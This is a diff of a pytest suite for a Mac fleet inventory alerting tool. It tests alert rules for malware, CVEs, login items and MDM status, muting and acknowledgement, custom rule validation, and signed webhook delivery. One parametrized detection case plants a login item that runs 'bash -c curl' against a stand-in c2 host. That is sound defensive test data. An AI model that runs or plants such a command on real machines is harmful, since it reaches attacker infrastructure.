@@ -7,6 +7,7 @@ import hmac
 import json
 import threading
 from collections.abc import Iterator
+from datetime import timedelta
 from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
 from typing import Any
@@ -14,10 +15,12 @@ from typing import Any
 import httpx
 import pytest
 
-from iru_mcp.errors import ConfigError
-from iru_mcp.inventory.alerts.evaluate import Verdict, judge
+from iru_mcp.errors import ConfigError, UsageError
+from iru_mcp.inventory.alerts.decisions import acknowledge, mute
+from iru_mcp.inventory.alerts.evaluate import Verdict, Which, judge, listed
 from iru_mcp.inventory.alerts.rules import load
-from iru_mcp.inventory.alerts.webhook import SIGNATURE, check, deliver
+from iru_mcp.inventory.alerts.webhook import SIGNATURE, Delivery, check, deliver, set_aside
+from iru_mcp.inventory.store import reader
 
 from .conftest import LATER, NOW, Copy
 from .planted import Change, Planted, device, nothing, put, with_new
@@ -30,7 +33,14 @@ def ask(copy: Copy, **options: Any) -> Verdict:
 
 
 def said(verdict: Verdict) -> list[tuple[str, str, str | None]]:
-    return [(event["event"], event["rule"], event["row"].get("serial_number")) for event in verdict.events]
+    """Each event with its rule and the first device of its finding."""
+    rows = [(event, event["row"].get("devices", [event["row"]])[0]) for event in verdict.events]
+    return [(event["event"], event["rule"], row.get("serial_number")) for event, row in rows]
+
+
+def opened(copy: Copy, rule: str) -> list[dict[str, Any]]:
+    with reader(copy.path) as db:
+        return listed(db, Which(rule=rule))
 
 
 async def step(copy: Copy, planted: Planted | None) -> Verdict:
@@ -52,7 +62,7 @@ SIGNED = with_new(
     program_arguments="/System/Applications/Mail.app/Contents/MacOS/Mail",
 )
 PLANTED: dict[str, tuple[str, dict[str, Any], Change]] = {
-    "new-local-admin": ("local_users", {"username": "root"}, put(type="Admin")),
+    "new-local-admin": ("local_users", {"username": "root"}, put(type="Administrator")),
     "filevault-turned-off": ("filevault", {"status": True}, put(status=False)),
     "agent-silent": ("devices", {}, put(last_check_in="2026-10-01T00:00:00.000000Z")),
     "new-unsigned-login-item": ("launch_agents_and_daemons", {"label": "com.apple.AirPlayXPCHelper"}, UNSIGNED),
@@ -80,13 +90,123 @@ async def test_a_built_in_rule_fires_once_and_resolves(copy: Copy, rule: str) ->
 
 
 async def test_malware_that_is_not_quarantined_is_an_alert_until_it_is(copy: Copy) -> None:
-    opened = [event for event in ask(copy).events if event["rule"] == "threat-not-quarantined"]
-    assert {event["severity"] for event in opened} == {"critical"}
-    (serial,) = {event["row"]["serial_number"] for event in opened}
+    ask(copy)
+    (alert,) = opened(copy, "threat-not-quarantined")
+    assert alert["severity"] == "critical"
+    (serial,) = {device["serial_number"] for device in alert["row"]["devices"]}
     planted = Planted()
     for (number,) in copy.rows("SELECT id FROM threats WHERE status = 'not_quarantined'"):
         planted.plant("threat-details", {"id": number}, put(status="QUARANTINED"))
-    assert ("resolved", "threat-not-quarantined", serial) in said(await step(copy, planted))
+    events = (await step(copy, planted)).events
+    (event,) = [event for event in events if event["rule"] == "threat-not-quarantined"]
+    assert (event["event"], event["why"]) == ("resolved", "the rule no longer finds it")
+    assert event["row"]["devices"][0]["serial_number"] == serial
+
+
+async def test_the_first_sync_is_one_summary(copy: Copy) -> None:
+    (event,) = ask(copy).events
+    assert event["event"] == "summary"
+    assert sum(event["opened"].values()) == len(opened(copy, ""))
+    assert event["say"].startswith("open at the first sync: ")
+
+
+async def test_what_has_one_cause_is_one_alert_with_its_devices(copy: Copy) -> None:
+    ask(copy)
+    (alert,) = [one for one in opened(copy, "known-exploited-cve") if one["row"]["cve_id"] == "CVE-2026-40117"]
+    affected = copy.rows("SELECT DISTINCT device_id FROM detections WHERE cve_id = 'CVE-2026-40117'")
+    assert {device["device_id"] for device in alert["row"]["devices"]} == {row[0] for row in affected}
+    assert f"on {len(affected)} devices: " in alert["say"]
+
+    planted = Planted()
+    gone = affected[0][0]
+    planted.plant("detections", {"device_id": gone, "cve_id": "CVE-2026-40117"}, nothing)
+    (event,) = [one for one in (await step(copy, planted)).events if one["rule"] == "known-exploited-cve"]
+    assert (event["event"], event["added"], event["gone"]) == ("changed", [], [gone])
+
+
+async def test_a_signed_login_item_that_is_rolled_out_to_twelve_macs_is_no_alert(copy: Copy) -> None:
+    ask(copy)
+    planted = Planted()
+    macs = copy.rows("SELECT DISTINCT device_id FROM launch_items ORDER BY 1 LIMIT 12")
+    rolled_out = with_new(
+        label="us.zoom.rollout", path="/Library/LaunchAgents/us.zoom.rollout.plist", program_arguments="/opt/zoom/agent"
+    )
+    for (device_id,) in macs:
+        planted.plant(
+            "launch_agents_and_daemons", {"device_id": device_id, "label": "com.apple.AirPlayXPCHelper"}, rolled_out
+        )
+    assert said(await step(copy, planted)) == []
+    assert len(copy.rows("SELECT * FROM launch_items WHERE label = 'us.zoom.rollout'")) == 12
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("/Users/Shared/.hidden/agent", "high"),
+        ("/private/tmp/x", "high"),
+        ("/bin/bash, -c, curl https://c2.example", "high"),
+        ("/usr/bin/osascript -e quit", "high"),
+        ("/opt/unknown/agent", "medium"),
+    ],
+)
+async def test_a_login_item_is_as_severe_as_where_it_runs(copy: Copy, command: str, severity: str) -> None:
+    ask(copy)
+    _, device_id = device(copy)
+    planted = Planted()
+    item = with_new(label="org.unknown", path="/Library/LaunchAgents/org.unknown.plist", program_arguments=command)
+    planted.plant("launch_agents_and_daemons", {"device_id": device_id, "label": "com.apple.AirPlayXPCHelper"}, item)
+    (event,) = (await step(copy, planted)).events
+    assert (event["rule"], event["severity"]) == ("new-unsigned-login-item", severity)
+
+
+async def test_an_acknowledged_alert_says_nothing_of_changes_until_its_end(copy: Copy) -> None:
+    ask(copy)
+    (alert,) = [one for one in opened(copy, "known-exploited-cve") if one["row"]["cve_id"] == "CVE-2026-40117"]
+    acknowledge(copy.path, alert["alert"], "patch on Friday", copy.now + timedelta(days=30))
+    planted = Planted()
+    planted.plant("detections", {"device_id": alert["row"]["devices"][0]["device_id"]}, nothing)
+    assert "changed" not in {event["event"] for event in (await step(copy, planted)).events}
+    (kept,) = [one for one in opened(copy, "known-exploited-cve") if one["alert"] == alert["alert"]]
+    assert kept["acknowledged_why"] == "patch on Friday"
+    with pytest.raises(UsageError, match="no open alert"):
+        acknowledge(copy.path, 99_999, "x", copy.now)
+
+
+async def test_a_muted_rule_is_told_when_its_mute_ends(copy: Copy) -> None:
+    ask(copy)
+    mute(copy.path, "removed-from-mdm", "migration", copy.now + timedelta(hours=12), copy.now)
+    serial, device_id = device(copy)
+    planted = Planted()
+    planted.plant("devices", {"device_id": device_id}, put(mdm_enabled=False))
+    copy.tenant.edits = [planted]
+    await copy.sync(full=True)
+    assert said(ask(copy)) == []
+    assert [one["row"]["serial_number"] for one in opened(copy, "removed-from-mdm")] == [serial]
+    copy.now += timedelta(hours=13)
+    assert said(ask(copy)) == [("opened", "removed-from-mdm", serial)]
+
+
+async def test_a_sync_without_the_custom_rules_does_not_resolve_their_alerts(copy: Copy, tmp_path: Path) -> None:
+    own = tmp_path / "rules.toml"
+    own.write_text(CHESS)
+    judge(copy.path, load(str(own)), copy.now)
+    found = len(opened(copy, "chess"))
+    assert found > 10
+    ask(copy)
+    assert len(opened(copy, "chess")) == found
+
+
+async def test_a_device_that_is_gone_says_so_as_its_reason(copy: Copy) -> None:
+    ask(copy)
+    _, device_id = device(copy)
+    planted = Planted()
+    planted.plant("devices", {"device_id": device_id}, put(user=""))
+    await step(copy, planted)
+    gone = Planted()
+    gone.plant("devices", {"device_id": device_id}, nothing)
+    events = (await step(copy, gone)).events
+    (why,) = [event["why"] for event in events if event["rule"] == "device-unassigned"]
+    assert why == "Iru no longer lists the device"
 
 
 async def test_a_login_item_inside_a_signed_app_is_no_alert(copy: Copy) -> None:
@@ -108,22 +228,22 @@ async def test_a_device_that_is_gone_is_an_alert(copy: Copy) -> None:
 
 
 async def test_exploited_cves_are_narrowed_to_a_group(copy: Copy, tmp_path: Path) -> None:
-    everyone = [event for event in ask(copy).events if event["rule"] == "known-exploited-cve"]
-    blueprint = everyone[0]["row"]["blueprint_name"]
+    ask(copy)
+    blueprint = opened(copy, "known-exploited-cve")[0]["row"]["devices"][0]["blueprint_name"]
     own = tmp_path / "rules.toml"
     own.write_text(f'[[rule]]\nname = "known-exploited-cve"\nparams = {{ group = "{blueprint}" }}\n')
     judge(copy.path, load(str(own)), copy.now)
     left = await copy.call("inventory_alerts")
     found = [item for item in left["items"] if item["rule"] == "known-exploited-cve"]
     assert found
-    assert {item["row"]["blueprint_name"] for item in found} == {blueprint}
+    assert {device["blueprint_name"] for item in found for device in item["row"]["devices"]} == {blueprint}
 
 
 async def test_an_alert_does_not_resolve_because_its_kind_could_not_be_read(copy: Copy) -> None:
     ask(copy)
     _, device_id = device(copy)
     planted = Planted()
-    planted.plant("local_users", {"device_id": device_id, "username": "root"}, put(type="Admin"))
+    planted.plant("local_users", {"device_id": device_id, "username": "root"}, put(type="Administrator"))
     await step(copy, planted)
 
     copy.tenant.refuse = lambda request: (
@@ -136,38 +256,66 @@ async def test_an_alert_does_not_resolve_because_its_kind_could_not_be_read(copy
     assert "local_users could not be copied" in verdict.problems["new-local-admin"]
 
 
-async def test_a_rule_of_ones_own_is_asked_and_a_wrong_one_does_not_stop_the_others(copy: Copy, tmp_path: Path) -> None:
+CHESS = (
+    '[[rule]]\nname = "chess"\nseverity = "low"\nsay = "{device_name} has {name}"\nkey = ["device_id"]\n'
+    "sql = \"SELECT device_id, device_name, name FROM apps WHERE name = 'Chess'\"\n"
+)
+
+
+async def test_a_rule_of_ones_own_is_asked_and_a_built_in_one_can_be_switched_off(copy: Copy, tmp_path: Path) -> None:
     own = tmp_path / "rules.toml"
-    own.write_text(
-        '[[rule]]\nname = "vlc"\nseverity = "low"\nsay = "{device_name} has {name}"\n'
-        "sql = \"SELECT device_name, name FROM apps WHERE name = 'Chess'\"\n"
-        '[[rule]]\nname = "wrong"\nseverity = "low"\nsay = "x"\nsql = "DELETE FROM devices"\n'
-        '[[rule]]\nname = "agent-silent"\nenabled = false\n'
-    )
-    verdict = judge(copy.path, load(str(own)), copy.now)
-    assert len([event for event in verdict.events if event["rule"] == "vlc"]) > 10
-    assert all(event["say"].endswith("has Chess") for event in verdict.events if event["rule"] == "vlc")
-    assert "not allowed" in verdict.problems["wrong"]
-    assert "agent-silent" not in {event["rule"] for event in verdict.events}
+    own.write_text(f'{CHESS}[[rule]]\nname = "agent-silent"\nenabled = false\n')
+    judge(copy.path, load(str(own)), copy.now)
+    found = opened(copy, "chess")
+    assert len(found) > 10
+    assert all(alert["say"].endswith("has Chess") for alert in found)
+    assert opened(copy, "agent-silent") == []
+
+
+GOOD = {"name": "'a'", "severity": "'low'", "say": "'x'", "sql": "'SELECT device_id FROM devices'"}
+
+
+@pytest.mark.parametrize(
+    ("parts", "problem"),
+    [
+        ({"sqll": "'x'"}, "line 1: .*unknown part, sqll"),
+        ({"name": "''"}, "line 1: .*no name"),
+        ({"sql": "''"}, "the rule 'a' has no sql"),
+        ({"severity": "'dire'"}, "unknown severity"),
+        ({"needs": "['app']"}, "unknown table, app"),
+        ({"enabled": "'yes'"}, "enabled of the rule 'a' is not true or false"),
+        ({"params": "'7'"}, "params of the rule 'a' is not a table"),
+        ({"params": "{ days = [1] }"}, "params.days of the rule 'a' is neither text nor a number"),
+        ({"key": "'device_id'"}, "key of the rule 'a' is not a list of column names"),
+        ({"key": "['serial']"}, "names serial, which its statement does not give"),
+        ({"say": "'{owner} x'"}, "names owner, which"),
+        ({"sql": "'DELETE FROM devices'"}, "does not run: .*DELETE"),
+        ({"sql": "'SELECT no_such FROM devices'"}, "does not run: no such column: no_such"),
+        ({"sql": "'SELECT :days AS device_id'"}, "does not run"),
+    ],
+)
+def test_a_rule_with_a_mistake_is_refused_with_its_line(tmp_path: Path, parts: dict[str, str], problem: str) -> None:
+    path = tmp_path / "rules.toml"
+    path.write_text("[[rule]]\n" + "".join(f"{name} = {value}\n" for name, value in (GOOD | parts).items()))
+    with pytest.raises(ConfigError, match=problem):
+        load(str(path))
 
 
 @pytest.mark.parametrize(
     ("text", "problem"),
-    [
-        ("x = 1", "other than"),
-        ("[[rule]]\n", "no name"),
-        ('[[rule]]\nname = "a"\nsqll = "x"', "unknown part, sqll"),
-        ('[[rule]]\nname = "a"\nsay = "x"\nseverity = "low"', "no sql"),
-        ('[[rule]]\nname = "a"\nsay = "x"\nseverity = "dire"\nsql = "SELECT 1"', "unknown severity"),
-        ('[[rule]]\nname = "a"\nsay = "x"\nseverity = "low"\nsql = "SELECT 1"\nneeds = ["app"]', "unknown kind"),
-        ("[[rule", "not TOML"),
-    ],
+    [("x = 1", "other than"), ("[[rule", "not TOML"), (CHESS + CHESS, "line 7: a second rule is named 'chess'")],
 )
-def test_a_file_of_rules_with_a_mistake_says_which(tmp_path: Path, text: str, problem: str) -> None:
+def test_a_file_that_is_no_file_of_rules_is_refused(tmp_path: Path, text: str, problem: str) -> None:
     path = tmp_path / "rules.toml"
     path.write_text(text)
     with pytest.raises(ConfigError, match=problem):
         load(str(path))
+
+
+def test_the_built_in_rules_compile_and_name_columns_that_they_give(tmp_path: Path) -> None:
+    path = tmp_path / "rules.toml"
+    path.write_text("".join(f'[[rule]]\nname = "{rule.name}"\nenabled = true\n' for rule in load()))
+    assert len(load(str(path))) == 12
 
 
 class Hook:
@@ -205,22 +353,45 @@ def hook() -> Iterator[Hook]:
     found.server.server_close()
 
 
+async def with_events(copy: Copy) -> list[dict[str, Any]]:
+    """A copy whose second round has several events, which wait to be sent."""
+    ask(copy)
+    planted = Planted()
+    for (device_id,) in copy.rows("SELECT device_id FROM devices WHERE mdm_enabled ORDER BY 1 LIMIT 3"):
+        planted.plant("devices", {"device_id": device_id}, put(mdm_enabled=False))
+    copy.tenant.edits = [planted]
+    await copy.sync(full=True)
+    return ask(copy, keep=True).events
+
+
 async def test_the_webhook_gets_each_event_once_and_signed(copy: Copy, hook: Hook) -> None:
-    events = ask(copy, keep=True).events
-    assert await deliver(copy.path, hook.url, "shared", clock=lambda: 1_700_000_000.0) == (len(events), 0)
+    events = await with_events(copy)
+    assert await deliver(copy.path, hook.url, "shared", clock=lambda: 1_700_000_000.0) == Delivery(len(events), 0, 0)
     assert [json.loads(body) for body, _ in hook.got] == events
     body, signature = hook.got[0]
     mac = hmac.new(b"shared", b"1700000000." + body, hashlib.sha256).hexdigest()
     assert signature == f"t=1700000000,v1={mac}"
-    assert await deliver(copy.path, hook.url, "shared") == (0, 0)
+    assert await deliver(copy.path, hook.url, "shared") == Delivery(0, 0, 0)
 
 
-async def test_what_the_webhook_does_not_take_waits_in_order(copy: Copy, hook: Hook) -> None:
-    events = ask(copy, keep=True).events
+async def test_an_event_that_is_always_refused_is_set_aside_and_the_others_go_on(copy: Copy, hook: Hook) -> None:
+    first, *others = await with_events(copy)
     hook.answers = [400]
-    assert await deliver(copy.path, hook.url, "") == (0, len(events))
-    assert await deliver(copy.path, hook.url, "") == (len(events), 0)
-    assert [json.loads(body)["alert"] for body, _ in hook.got] == [event["alert"] for event in events]
+    assert await deliver(copy.path, hook.url, "") == Delivery(len(others), 1, 0)
+    assert [json.loads(body) for body, _ in hook.got] == others
+    hook.answers = [400]
+    assert await deliver(copy.path, hook.url, "") == Delivery(0, 1, 0)
+    hook.answers = [400]
+    assert await deliver(copy.path, hook.url, "") == Delivery(0, 0, 1)
+    with reader(copy.path) as db:
+        assert set_aside(db) == [first | {"refused": "the webhook answered 400"}]
+    assert await deliver(copy.path, hook.url, "") == Delivery(0, 0, 0)
+
+
+async def test_a_digest_is_one_request_with_all_events(copy: Copy, hook: Hook) -> None:
+    events = await with_events(copy)
+    assert await deliver(copy.path, hook.url, "", digest=True) == Delivery(len(events), 0, 0)
+    assert [json.loads(body) for body, _ in hook.got] == [{"events": events}]
 
 
 @pytest.mark.parametrize(
